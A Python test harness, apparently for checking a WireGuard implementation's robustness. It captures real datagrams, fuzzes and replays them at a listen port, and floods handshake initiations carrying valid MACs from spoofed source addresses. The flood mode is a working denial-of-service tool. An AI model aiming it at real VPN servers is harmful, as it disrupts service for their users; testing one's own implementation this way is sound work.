#!/usr/bin/env python3
"""Captures real WireGuard datagrams on an interface and throws hostile input at a listen port.

  hostile.py capture --iface IF --port P --count N --seconds S --out FILE --ready FLAG
      Writes FLAG once it listens, then sniffs UDP datagrams to or from port P on IF (AF_PACKET, needs root), keeps those whose
      first byte is a WireGuard message type (1-4), and writes one JSON object per line:
      {"dst": "<ip>", "hex": "<payload>"}. Stops after N datagrams or S seconds.

  hostile.py attack --target IP --port P --captures FILE --stop-file F --max-seconds S --report R
      Sends rounds of hostile datagrams at IP:P until F exists or S seconds pass, then writes a
      JSON report to R ({"rounds": n, "datagrams": n, "kinds": {...}}). Each round has:
        garbage      random bytes of random sizes (0-1400)
        bad_length   type 1/2/3 headers with a length that is not the message's exact size
        short_data   type 4 headers shorter than header + tag
        bad_mac1     exact-size initiations/responses with random content (mac1 cannot verify)
        cookie       exact-size cookie replies with random content
        unknown_idx  type 4 with a random receiver index
        bad_tag      type 4 with a captured real receiver index and random ciphertext
        truncated    captured real messages cut short
        replayed     captured real messages sent again verbatim

  hostile.py flood --target IP --port P --pubkey B64 --source-net A.B.C.0 --sources N
                   --source-port SP --seconds S --report R [--mac2] [--stop-file F]
      Sends handshake initiations with a valid mac1 (it needs only the target's public key) as
      fast as one process can, from N source addresses A.B.C.0+1.. (raw socket: the namespace
      must route them back to itself, e.g. `ip route add local A.B.0.0/16 dev lo`), all from
      port SP. The rest of each initiation is random, so the target can only find out by doing
      the Diffie-Hellman that mac1 lets through. With --mac2 it also reads the cookie replies
      that reach those addresses and sends each source's initiations with a valid mac2 from then
      on, as an attacker that owns its addresses does. Stops after S seconds or once F exists,
      then writes a JSON report to R: {"sent", "seconds", "rate", "send_errors", "cookies",
      "sources_with_cookie"}.
"""

import argparse
import base64
import hashlib
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
HANDSHAKE_SIZES = {1: 148, 2: 92, 3: 64}
DATA_MIN = 32  # type/reserved (4) + receiver (4) + counter (8) + tag (16)


def udp_payload(frame):
    """Returns (dst ip, src port, dst port, payload) for an Ethernet/IPv4|IPv6/UDP frame, else None."""
    if len(frame) < 14:
        return None
    ethertype = struct.unpack_from("!H", frame, 12)[0]
    if ethertype == 0x0800 and len(frame) >= 34:
        ihl = (frame[14] & 0x0F) * 4
        if frame[23] != 17 or len(frame) < 14 + ihl + 8:
            return None
        dst = socket.inet_ntop(socket.AF_INET, frame[30:34])
        udp = 14 + ihl
    elif ethertype == 0x86DD and len(frame) >= 62:
        if frame[20] != 17:
            return None
        dst = socket.inet_ntop(socket.AF_INET6, frame[38:54])
        udp = 54
    else:
        return None
    sport, dport, length = struct.unpack_from("!HHH", frame, udp)
    payload = frame[udp + 8 : udp + max(length, 8)]
    return dst, sport, dport, payload


def capture(args):
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniffer.bind((args.iface, 0))
    with open(args.ready, "w", encoding="ascii") as flag:
        flag.write("capturing\n")
    deadline = time.monotonic() + args.seconds
    kept = 0
    with sniffer, open(args.out, "w", encoding="ascii") as out:
        while kept < args.count:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                break
            sniffer.settimeout(remaining)
            try:
                frame = sniffer.recv(65535)
            except socket.timeout:
                break
            parsed = udp_payload(frame)
            if parsed is None:
                continue
            dst, sport, dport, payload = parsed
            if args.port not in (sport, dport) or not payload or payload[0] not in (1, 2, 3, 4):
                continue
            out.write(json.dumps({"dst": dst, "hex": payload.hex()}) + "\n")
            out.flush()
            kept += 1
    print(f"captured {kept} datagrams", file=sys.stderr)


def typed(kind, length, rng):
    """A message with type `kind`, zero reserved bytes and random content, `length` bytes long."""
    if length < 4:
        return bytes([kind, 0, 0][:length])
    return bytes([kind, 0, 0, 0]) + rng.randbytes(length - 4)


def one_round(rng, captures, target):
    """Yields (kind, datagram) for one round of hostile input; `captures` as from load_captures."""
    for _ in range(150):
        yield "garbage", rng.randbytes(rng.randint(0, 1400))
    for kind, size in HANDSHAKE_SIZES.items():
        for _ in range(10):
            length = rng.choice([rng.randint(1, size - 1), rng.randint(size + 1, 1400)])
            yield "bad_length", typed(kind, length, rng)
    for _ in range(20):
        yield "short_data", typed(4, rng.randint(1, DATA_MIN - 1), rng)
    for kind in (1, 2):
        for _ in range(10):
            yield "bad_mac1", typed(kind, HANDSHAKE_SIZES[kind], rng)
    for _ in range(10):
        yield "cookie", typed(3, HANDSHAKE_SIZES[3], rng)
    for _ in range(40):
        yield "unknown_idx", typed(4, rng.randint(DATA_MIN, 1400), rng)
    real_indices = [m[4:8] for dst, m in captures if m[0] == 4 and len(m) >= DATA_MIN and dst == target]
    for _ in range(40 if real_indices else 0):
        body = rng.randbytes(rng.randint(DATA_MIN, 1400) - 8)
        yield "bad_tag", bytes([4, 0, 0, 0]) + rng.choice(real_indices) + body
    for _, message in captures:
        if len(message) > 1:
            yield "truncated", message[: rng.randint(1, len(message) - 1)]
    for _, message in captures:
        yield "replayed", message


def load_captures(path):
    """Reads `capture` output as a list of (destination address, payload)."""
    captures = []
    with open(path, encoding="ascii") as source:
        for line in source:
            record = json.loads(line)
            captures.append((record["dst"], bytes.fromhex(record["hex"])))
    return captures


def attack(args):
    rng = random.Random(args.seed)
    captures = load_captures(args.captures)
    family = socket.AF_INET6 if ":" in args.target else socket.AF_INET
    kinds = {}
    rounds = 0
    datagrams = 0
    deadline = time.monotonic() + args.max_seconds
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        while time.monotonic() < deadline and not os.path.exists(args.stop_file):
            for n, (kind, datagram) in enumerate(one_round(rng, captures, args.target)):
                try:
                    sender.sendto(datagram, (args.target, args.port))
                except OSError:
                    # ICMP errors from earlier datagrams surface here; keep going.
                    continue
                kinds[kind] = kinds.get(kind, 0) + 1
                datagrams += 1
                if n % 50 == 49:
                    time.sleep(0.01)
            rounds += 1
            time.sleep(0.2)
    report = {"rounds": rounds, "datagrams": datagrams, "captures": len(captures), "kinds": kinds}
    with open(args.report, "w", encoding="ascii") as out:
        json.dump(report, out)
        out.write("\n")


# Labels of the mac1 and cookie keys (WireGuard's LABEL_MAC1, LABEL_COOKIE).
LABEL_MAC1 = b"mac1----"
LABEL_COOKIE = b"cookie--"
INITIATION_MAC1 = 116
INITIATION_MAC2 = 132
COOKIE_REPLY_LEN = 64
MASK32 = 0xFFFFFFFF
CHACHA_CONSTANTS = struct.unpack("<4I", b"expand 32-byte k")


def blake2s_hash(data):
    return hashlib.blake2s(data).digest()


def blake2s_mac(key, data):
    return hashlib.blake2s(data, key=key, digest_size=16).digest()


def _rotl(value, bits):
    return ((value << bits) & MASK32) | (value >> (32 - bits))


def _chacha_rounds(state):
    """The 20 ChaCha rounds over a 16-word state (without the final addition)."""
    s = list(state)
    quarters = ((0, 4, 8, 12), (1, 5, 9, 13), (2, 6, 10, 14), (3, 7, 11, 15),
                (0, 5, 10, 15), (1, 6, 11, 12), (2, 7, 8, 13), (3, 4, 9, 14))
    for _ in range(10):
        for a, b, c, d in quarters:
            s[a] = (s[a] + s[b]) & MASK32
            s[d] = _rotl(s[d] ^ s[a], 16)
            s[c] = (s[c] + s[d]) & MASK32
            s[b] = _rotl(s[b] ^ s[c], 12)
            s[a] = (s[a] + s[b]) & MASK32
            s[d] = _rotl(s[d] ^ s[a], 8)
            s[c] = (s[c] + s[d]) & MASK32
            s[b] = _rotl(s[b] ^ s[c], 7)
    return s


def hchacha20(key, nonce16):
    s = _chacha_rounds(CHACHA_CONSTANTS + struct.unpack("<8I", key) + struct.unpack("<4I", nonce16))
    return struct.pack("<8I", *(s[0:4] + s[12:16]))


def chacha20_block(key, counter, nonce12):
    state = CHACHA_CONSTANTS + struct.unpack("<8I", key) + (counter,) + struct.unpack("<3I", nonce12)
    mixed = _chacha_rounds(state)
    return struct.pack("<16I", *((x + y) & MASK32 for x, y in zip(mixed, state)))


def open_cookie(cookie_key, reply):
    """The 16-byte cookie of a cookie reply: XChaCha20 decryption of its sealed cookie. The tag
    is not checked: a wrong cookie makes a wrong mac2, which the target counts."""
    nonce, sealed = reply[8:32], reply[32:48]
    stream = chacha20_block(hchacha20(cookie_key, nonce[:16]), 1, b"\0\0\0\0" + nonce[16:])
    return bytes(a ^ b for a, b in zip(sealed, stream))


def flood_initiation(rng, sender, mac1_key):
    """An initiation from sender index `sender` with random ephemeral, static and timestamp
    fields, a valid mac1 and no mac2."""
    body = bytes([1, 0, 0, 0]) + struct.pack("<I", sender) + rng.randbytes(INITIATION_MAC1 - 8)
    return body + blake2s_mac(mac1_key, body) + bytes(16)


def ipv4_udp(src, dst, sport, dport, payload):
    """An IPv4/UDP packet for a raw socket; the kernel fills in length, ID and header checksum.
    UDP checksum 0 means none, which IPv4 allows."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, 17, 0, src, dst)
    return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def flood(args):
    rng = random.Random(args.seed)
    public = base64.b64decode(args.pubkey)
    mac1_key = blake2s_hash(LABEL_MAC1 + public)
    cookie_key = blake2s_hash(LABEL_COOKIE + public)
    base = struct.unpack("!I", socket.inet_aton(args.source_net))[0]
    dst = socket.inet_aton(args.target)
    sources = [struct.pack("!I", base + 1 + i) for i in range(args.sources)]
    messages = [flood_initiation(rng, 0x10000 + i, mac1_key) for i in range(args.sources)]
    packets = [ipv4_udp(src, dst, args.source_port, args.port, m) for src, m in zip(sources, messages)]
    by_sender = {0x10000 + i: i for i in range(args.sources)}
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    replies = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    replies.bind(("0.0.0.0", args.source_port))
    replies.setblocking(False)
    sent = errors = cookies = 0
    with_cookie = set()
    started = time.monotonic()
    deadline = started + args.seconds
    send, target = raw.sendto, (args.target, 0)
    with raw, replies:
        while time.monotonic() < deadline and not os.path.exists(args.stop_file or "/nonexistent"):
            for packet in packets:
                try:
                    send(packet, target)
                except OSError:
                    errors += 1
            sent += len(packets)
            while args.mac2:
                try:
                    reply = replies.recv(128)
                except BlockingIOError:
                    break
                if len(reply) != COOKIE_REPLY_LEN or reply[0] != 3:
                    continue
                i = by_sender.get(struct.unpack_from("<I", reply, 4)[0])
                if i is None:
                    continue
                cookies += 1
                with_cookie.add(i)
                message = messages[i][:INITIATION_MAC2]
                message += blake2s_mac(open_cookie(cookie_key, reply), message)
                packets[i] = ipv4_udp(sources[i], dst, args.source_port, args.port, message)
    seconds = time.monotonic() - started
    report = {"sent": sent - errors, "seconds": round(seconds, 3), "rate": round((sent - errors) / seconds),
              "send_errors": errors, "sources": args.sources, "cookies": cookies,
              "sources_with_cookie": len(with_cookie)}
    with open(args.report, "w", encoding="ascii") as out:
        json.dump(report, out)
        out.write("\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    cap = sub.add_parser("capture")
    cap.add_argument("--iface", required=True)
    cap.add_argument("--port", type=int, required=True)
    cap.add_argument("--count", type=int, required=True)
    cap.add_argument("--seconds", type=float, required=True)
    cap.add_argument("--out", required=True)
    cap.add_argument("--ready", required=True)
    att = sub.add_parser("attack")
    att.add_argument("--target", required=True)
    att.add_argument("--port", type=int, required=True)
    att.add_argument("--captures", required=True)
    att.add_argument("--stop-file", required=True)
    att.add_argument("--max-seconds", type=float, required=True)
    att.add_argument("--report", required=True)
    att.add_argument("--seed", type=int, default=None)
    fl = sub.add_parser("flood")
    fl.add_argument("--target", required=True)
    fl.add_argument("--port", type=int, required=True)
    fl.add_argument("--pubkey", required=True, help="the target's public key (base64)")
    fl.add_argument("--source-net", required=True, help="sources are this IPv4 address + 1, + 2, ...")
    fl.add_argument("--sources", type=int, required=True)
    fl.add_argument("--source-port", type=int, required=True)
    fl.add_argument("--seconds", type=float, required=True)
    fl.add_argument("--report", required=True)
    fl.add_argument("--mac2", action="store_true", help="answer cookie replies: valid mac2 from then on")
    fl.add_argument("--stop-file")
    fl.add_argument("--seed", type=int, default=None)
    args = parser.parse_args()
    try:
        if args.command == "capture":
            capture(args)
        elif args.command == "attack":
            attack(args)
        else:
            flood(args)
    except (OSError, ValueError, KeyError) as error:
        print(f"hostile {args.command}: {error}", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
